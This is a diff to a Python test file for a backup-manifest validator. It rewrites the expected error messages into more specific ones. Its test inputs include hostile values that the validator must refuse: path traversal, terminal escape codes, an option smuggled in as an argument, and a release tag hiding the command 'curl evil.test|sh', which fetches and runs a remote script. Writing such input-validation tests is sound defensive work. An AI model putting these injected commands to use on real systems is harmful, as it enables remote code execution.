@@ -72,46 +72,61 @@ def test_what_was_written_is_read_again(tables: dict[str, int], sequence: int) -
 @pytest.mark.parametrize(
     ("change", "fault"),
     [
-        ({"version": 1}, "is of version 1, not 2"),
+        ({"version": 1}, "version must be 2, is 1"),
         ({"more": 1}, "more is unknown"),
-        ({"id": "../20251123T000001.000Z"}, "id makes no sense"),
-        ({"reason": "boredom"}, "reason makes no sense"),
-        ({"at": "2025-11-23T12:00:00"}, "at makes no sense"),
-        ({"sequence": True}, "sequence makes no sense"),
-        ({"release": {"id": "20251123T120000.000Z"}}, "release makes no sense"),
-        ({"postgres": {"version": "17.11", "database": "app"}}, "postgres makes no sense"),
-        ({"redis": {"version": "", "keys": 1}}, "redis makes no sense"),
-        ({"tables": {"public.offers": -1}}, "tables makes no sense"),
+        ({"id": "../20251123T000001.000Z"}, "id must be the ID of a backup"),
+        ({"reason": "boredom"}, "reason must be one of nightly, asked, release, safety"),
+        ({"at": "2025-11-23T12:00:00"}, "at must be a time of this millennium with its zone"),
+        ({"sequence": True}, "sequence must be a whole number, 0 or more"),
+        ({"release": {"id": "20251123T120000.000Z"}}, "release must be null or a release with its id and tag"),
+        ({"postgres": {"version": "17.11", "database": "app"}}, "postgres.bytes is missing"),
+        ({"redis": {"version": "", "keys": 1}}, "redis.version must be a version"),
+        ({"tables": {"public.offers": -1}}, "tables.public.offers must be a whole number, 0 or more"),
         (
             {"files": {"globals.sql": {"bytes": 1, "sha256": SHA256}}},
             "files has no postgres.dump, files has no redis.rdb, files has no state.json",
         ),
         ({"files": {**FILES, "more.sql": FILES["globals.sql"]}}, "files has more.sql, which is none of a backup's"),
         ({"redis": None}, "files has redis.rdb, which is none of a backup's"),
-        ({"files": {"postgres.dump": {"bytes": 1, "sha256": "0"}}}, "files makes no sense"),
+        ({"files": {"postgres.dump": {"bytes": 1, "sha256": "0"}}}, "files.postgres.dump.sha256 must be a SHA-256"),
         (
             {"files": {name: {"bytes": 1, "sha256": SHA256} for name in ("postgres.dump", "../x")}},
-            "files makes no sense",
+            r"files has the key \.\./x, which must be the name of a backup's file",
         ),
-        ({"postgres": {**POSTGRES, "version": "1" * 5000}}, "postgres makes no sense"),
-        ({"postgres": {**POSTGRES, "version": "17.11\n"}}, "postgres makes no sense"),
-        ({"postgres": {**POSTGRES, "version": "17.11", "bytes": 2**63}}, "postgres makes no sense"),
-        ({"postgres": {**POSTGRES, "database": "app; --"}}, "postgres makes no sense"),
-        ({"app": "\x1b[2J"}, "app makes no sense"),
-        ({"at": "0001-01-01T00:00:00+00:00"}, "at makes no sense"),
-        ({"sequence": 2**63}, "sequence makes no sense"),
-        ({"schema": "0003\x1b[31m"}, "schema makes no sense"),
-        ({"release": {"id": "x", "tag": "1.0.0; curl evil.test|sh #"}}, "release makes no sense"),
-        ({"release": {"id": "x", "tag": "1" * 129}}, "release makes no sense"),
-        ({"tables": {"": 1}}, "tables makes no sense"),
-        ({"tables": {"x" * 128: 1}}, "tables makes no sense"),
-        ({"verified": {"at": "2025-11-23T12:00:00+00:00", "seconds": 1e400, "rows": 1}}, "verified makes no sense"),
+        ({"postgres": {**POSTGRES, "version": "1" * 5000}}, "postgres.version must be a version"),
+        ({"postgres": {**POSTGRES, "version": "17.11\n"}}, "postgres.version must be a version"),
+        (
+            {"postgres": {**POSTGRES, "version": "17.11", "bytes": 2**63}},
+            "postgres.bytes must be a whole number, 0 or more",
+        ),
+        ({"postgres": {**POSTGRES, "database": "app; --"}}, "postgres.database must be the name of a database"),
+        ({"app": "\x1b[2J"}, "app must be the name of an app"),
+        ({"at": "0001-01-01T00:00:00+00:00"}, "at must be a time of this millennium with its zone"),
+        ({"sequence": 2**63}, "sequence must be a whole number, 0 or more"),
+        ({"schema": "0003\x1b[31m"}, "schema must be null or a revision of the schema"),
+        (
+            {"release": {"id": "x", "tag": "1.0.0; curl evil.test|sh #"}},
+            "release must be null or a release with its id and tag",
+        ),
+        ({"release": {"id": "x", "tag": "1" * 129}}, "release must be null or a release with its id and tag"),
+        ({"tables": {"": 1}}, "tables has the key , which must be a schema and a table"),
+        ({"tables": {"x" * 128: 1}}, f"tables has the key {'x' * 60}, which must be a schema and a table"),
+        (
+            {"verified": {"at": "2025-11-23T12:00:00+00:00", "seconds": 1e400, "rows": 1}},
+            "verified.seconds must be a number, 0 or more",
+        ),
         (
             {"offsite": {"at": "2025-11-23T12:00:00+00:00", "snapshot": "--password-command=x"}},
-            "offsite makes no sense",
+            "offsite.snapshot must be the ID of a snapshot",
         ),
-        ({"verified": {"at": "today", "seconds": 1, "rows": 1}}, "verified makes no sense"),
-        ({"offsite": {"at": "2025-11-23T12:00:00+00:00", "snapshot": ""}}, "offsite makes no sense"),
+        (
+            {"verified": {"at": "today", "seconds": 1, "rows": 1}},
+            "verified.at must be a time of this millennium with its zone",
+        ),
+        (
+            {"offsite": {"at": "2025-11-23T12:00:00+00:00", "snapshot": ""}},
+            "offsite.snapshot must be the ID of a snapshot",
+        ),
     ],
 )
 def test_what_makes_no_sense_is_refused_by_name(change: dict[str, Any], fault: str) -> None:
@@ -164,7 +179,7 @@ def test_what_nobody_could_read_again_is_not_written(tmp_path: Path) -> None:
     """What a container said is in a manifest, too: its version, for instance."""
     one = made(1, redis=Redis("8.0.2\nverified: yes", 5))
     (tmp_path / one.id).mkdir()
-    with pytest.raises(FailedError, match=r"manifest\.json: redis makes no sense"):
+    with pytest.raises(FailedError, match=r"manifest\.json: redis\.version must be a version"):
         manifest.save(tmp_path / one.id, one)
     assert list((tmp_path / one.id).iterdir()) == []
 
@@ -182,7 +197,7 @@ def test_one_that_could_not_be_proven_says_why_and_a_proven_one_is_read_by_an_ol
 @pytest.mark.parametrize("why", ["", "x" * 501, "two\nlines", "\x1b[31mred", 7, True])
 def test_why_it_is_unproven_is_one_line_that_can_be_shown(why: Any) -> None:
     document = json.loads(made(1, verified=False).to_json()) | {"unproven": why}
-    with pytest.raises(FailedError, match="unproven makes no sense"):
+    with pytest.raises(FailedError, match="unproven must be null or a line of at most 500 characters"):
         manifest.parse(json.dumps(document), "here")
 
 
